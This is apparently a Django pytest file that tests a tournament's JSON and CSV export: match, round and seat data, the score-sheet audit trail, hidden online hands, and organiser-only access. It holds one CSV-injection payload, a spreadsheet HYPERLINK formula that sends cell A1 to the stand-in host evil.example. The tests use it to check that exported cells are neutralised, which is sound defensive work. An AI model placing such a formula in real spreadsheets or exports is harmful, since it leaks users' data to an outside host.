"""A competition's export (JSON and CSV), for its organiser: every match with its seats,
places and rounds, each table match's score sheet with who wrote what, when and why; no hand
of an online match; hostile text as data (a CSV cell never runs as a formula)."""

from __future__ import annotations

import csv
import io
import json
from http import HTTPStatus
from typing import Any

import pytest
from rest_framework.test import APIClient

from games.competition_export import COLUMNS
from games.models import Match, Player, Round
from games.tables.scorer_links import scorer_link_issue
from scoring.models import CompetitionMatch
from tests.foundation.hostile import STORABLE
from tests.games.conftest import client_for
from tests.games.factories import PlayerFactory
from tests.games.wall_world import HOSTILE, enter_round, wall_world

pytestmark = pytest.mark.django_db
#: A correction's reason a spreadsheet would run, with both line breaks in it.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)\r\nand more'


def _url(competition_id: int, kind: str = "json") -> str:
    return f"/api/competitions/{competition_id}/export.{kind}"


def _played(players: list[Player], clients: list[APIClient], capture: Any) -> Any:
    """The wall's table tournament: round 1 entered by a scorer link, round 2 by Ada, Grace
    confirms round 1 then disputes round 2, Ada corrects round 2 with ``FORMULA`` (the work
    after each commit, results and recompute, run)."""
    with capture(execute=True):
        return _play(players, clients)


def _play(players: list[Player], clients: list[APIClient]) -> Any:
    wall = wall_world(players, clients[0])
    phone = APIClient()
    issued = scorer_link_issue(match_id=wall.match_id, player=players[0])
    phone.credentials(HTTP_AUTHORIZATION=f"Scorer {issued.code}")
    enter_round(phone, wall.match_id, 1, 0)
    assert clients[1].post(f"/api/matches/{wall.match_id}/rounds/1/confirm").status_code == 201
    enter_round(clients[0], wall.match_id, 2, 2)
    disputed = clients[1].post(
        f"/api/matches/{wall.match_id}/rounds/2/dispute", {"reason": HOSTILE}, format="json"
    )
    assert disputed.status_code == 201, disputed.content
    version = Match.objects.get(pk=wall.match_id).version
    fixed = [
        {"seat": 0, "points": 0, "went_out": True},
        {"seat": 1, "points": 7},
        {"seat": 2, "tiles": [[5, 6], [0, 3]]},
    ]
    corrected = clients[0].put(
        f"/api/matches/{wall.match_id}/rounds/2/scores",
        {"version": version, "scores": fixed, "reason": FORMULA},
        format="json",
    )
    assert corrected.status_code == HTTPStatus.OK, corrected.content
    return wall, issued.link.pk


def test_the_json_export_holds_every_match_round_seat_and_score_sheet_event(
    players: list[Player],
    clients: list[APIClient],
    django_capture_on_commit_callbacks: Any,
) -> None:
    # given
    wall, link_id = _played(players, clients, django_capture_on_commit_callbacks)
    # when
    response = clients[0].get(_url(wall.competition.pk))
    # then
    assert response.status_code == HTTPStatus.OK, response.content
    body = response.json()
    assert body["competition"]["id"] == wall.competition.pk
    (match,) = body["matches"]
    assert (match["match_id"], match["stage"], match["table"], match["play"]) == (
        wall.match_id,
        1,
        1,
        "table",
    )
    assert [(s["position"], s["kind"], s["name"]) for s in match["seats"]] == [
        (0, "human", "Ada"),
        (1, "human", "Grace"),
        (2, "guest", HOSTILE),
    ]
    assert match["seats"][2]["player_id"] is None
    assert [s["place"] for s in match["seats"]] == [1, 2, 3]
    assert [r["number"] for r in match["rounds"]] == [1, 2]
    assert match["rounds"][1]["scores"][2] == {
        "seat": 2,
        "points": 14,
        "went_out": False,
        "tiles": [[5, 6], [0, 3]],
    }
    kinds = [(e["round"], e["kind"]) for e in match["trail"]]
    assert kinds == [
        (1, "entered"),
        (1, "confirmed"),
        (2, "entered"),
        (2, "disputed"),
        (2, "amended"),
    ]
    entered, confirmed, _, disputed, amended = match["trail"]
    assert entered["by"] == {"player_id": None, "name": None, "scorer_link_id": link_id}
    assert confirmed["by"]["player_id"] == players[1].pk
    assert confirmed["seat"] == 1
    assert disputed["reason"] == HOSTILE
    assert amended["reason"] == FORMULA
    assert [s["points"] for s in amended["before"]] == [0, 7, 12]
    assert [s["points"] for s in amended["after"]] == [0, 7, 14]
    assert amended["by"]["name"] == "Ada"


def test_the_csv_export_is_flat_rows_that_never_run_as_formulas(
    players: list[Player],
    clients: list[APIClient],
    django_capture_on_commit_callbacks: Any,
) -> None:
    # given
    wall, _ = _played(players, clients, django_capture_on_commit_callbacks)
    # when
    response = clients[0].get(_url(wall.competition.pk, "csv"))
    # then
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert list(rows[0]) == COLUMNS
    # 3 seat rows; round 1: entered + confirmed; round 2: entered + disputed + amended (x3)
    assert [row["event"] for row in rows] == ["seat"] * 3 + ["entered"] * 3 + ["confirmed"] * 3 + [
        "entered"
    ] * 3 + ["disputed"] * 3 + ["amended"] * 3
    amended = [row for row in rows if row["event"] == "amended"]
    assert {row["reason"] for row in amended} == {"'" + FORMULA}  # quoted, CR/LF kept
    assert (amended[2]["points"], amended[2]["points_before"], amended[2]["tiles"]) == (
        "14",
        "12",
        "5|6 0|3",
    )
    assert [row["current"] for row in rows if row["round"] == "2"] == ["false"] * 6 + ["true"] * 3
    assert [row["name"] for row in rows[:3]] == ["Ada", "Grace", HOSTILE]
    assert b'"\'=HYPERLINK(""http://evil.example/?""&A1)\r\nand more"' in response.content


def test_the_csv_neutralises_every_hostile_name(players: list[Player]) -> None:
    wall = wall_world(players, client_for(players[0]))
    for index, name in enumerate(STORABLE):
        Player.objects.filter(pk=players[index % 2].pk).update(display_name=name)
        rows = list(
            csv.reader(
                io.StringIO(
                    client_for(players[0]).get(_url(wall.competition.pk, "csv")).content.decode(),
                    newline="",
                )
            )
        )
        shown = rows[1 + index % 2][COLUMNS.index("name")]
        assert shown == ("'" + name if name[:1] in "=+-@\t\r" else name)


def test_an_online_match_s_hands_stay_hidden(players: list[Player], started_match: Any) -> None:
    # given: an online table of the tournament whose round 1 is over (its hands in its snapshot)
    wall = wall_world(players, client_for(players[0]))
    online = started_match(n=2)
    CompetitionMatch.objects.create(competition=wall.competition, match=online, table_number=2)
    Round.objects.filter(match=online, number=1).update(status="finished", scores=[0, 23])
    snapshot = Round.objects.get(match=online, number=1).snapshot
    # when
    body = client_for(players[0]).get(_url(wall.competition.pk)).json()
    # then
    shown = next(m for m in body["matches"] if m["match_id"] == online.pk)
    assert shown["trail"] == []
    assert [s["tiles"] for s in shown["rounds"][0]["scores"]] == [None, None]
    text = json.dumps(body)
    assert online.seed not in text
    hands = [hand for hand in _hands(snapshot) if hand]
    assert hands
    for hand in hands:
        assert json.dumps(hand) not in text


def _hands(snapshot: Any) -> list[Any]:
    """Every list of tiles named ``hand``/``hands``/``boneyard`` in an engine snapshot."""
    found: list[Any] = []
    if isinstance(snapshot, dict):
        for key, value in snapshot.items():
            if key in ("hand", "boneyard"):
                found.append(value)
            elif key == "hands":
                found.extend(value)
            else:
                found.extend(_hands(value))
    elif isinstance(snapshot, list):
        for value in snapshot:
            found.extend(_hands(value))
    return found


def test_only_the_organiser_exports(players: list[Player], clients: list[APIClient]) -> None:
    wall = wall_world(players, clients[0])
    for kind in ("json", "csv"):
        other = clients[1].get(_url(wall.competition.pk, kind))
        assert (other.status_code, other.json()["code"]) == (403, "not_organiser")
        assert other["Content-Type"] == "application/problem+json"
        missing = clients[0].get(_url(999999, kind))
        assert (missing.status_code, missing.json()["code"]) == (404, "competition_not_found")
        anonymous = APIClient().get(_url(wall.competition.pk, kind))
        assert anonymous.status_code == HTTPStatus.UNAUTHORIZED
        typo = clients[0].get(_url(wall.competition.pk, kind) + "?page=2")
        assert typo.status_code == HTTPStatus.BAD_REQUEST
    stranger = client_for(PlayerFactory(is_organiser=True))
    assert stranger.get(_url(wall.competition.pk)).status_code == HTTPStatus.FORBIDDEN


def test_a_reopening_is_in_the_trail_with_who_when_and_why(
    players: list[Player],
    clients: list[APIClient],
    django_capture_on_commit_callbacks: Any,
) -> None:
    # given: the organiser (Ada) reopens the table's match after it was corrected
    wall, _ = _played(players, clients, django_capture_on_commit_callbacks)
    reopened = clients[0].post(
        f"/api/matches/{wall.match_id}/reopen", {"reason": FORMULA}, format="json"
    )
    assert reopened.status_code == HTTPStatus.CREATED, reopened.content

    # when
    body = clients[0].get(_url(wall.competition.pk)).json()
    response = clients[0].get(_url(wall.competition.pk, "csv"))

    # then: the JSON trail ends with it, of no round
    (match,) = body["matches"]
    last = match["trail"][-1]
    assert (last["round"], last["kind"], last["reason"]) == (None, "reopened", FORMULA)
    assert last["by"] == {"player_id": players[0].pk, "name": "Ada", "scorer_link_id": None}
    assert last["at"] >= match["trail"][-2]["at"]
    assert (last["seat"], last["before"], last["after"]) == (None, None, [])
    # and the CSV has one row for it, after the match's rounds, its reason never a formula
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    (row,) = [row for row in rows if row["event"] == "reopened"]
    assert rows.index(row) == 3 + 15  # after the seats and the rounds' 15 rows
    assert (row["match_id"], row["by_player_id"], row["by_name"]) == (
        str(wall.match_id),
        str(players[0].pk),
        "Ada",
    )
    assert row["reason"] == "'" + FORMULA
    assert row["event_at"] == last["at"]
    assert (row["round"], row["seat"], row["points"]) == ("", "", "")
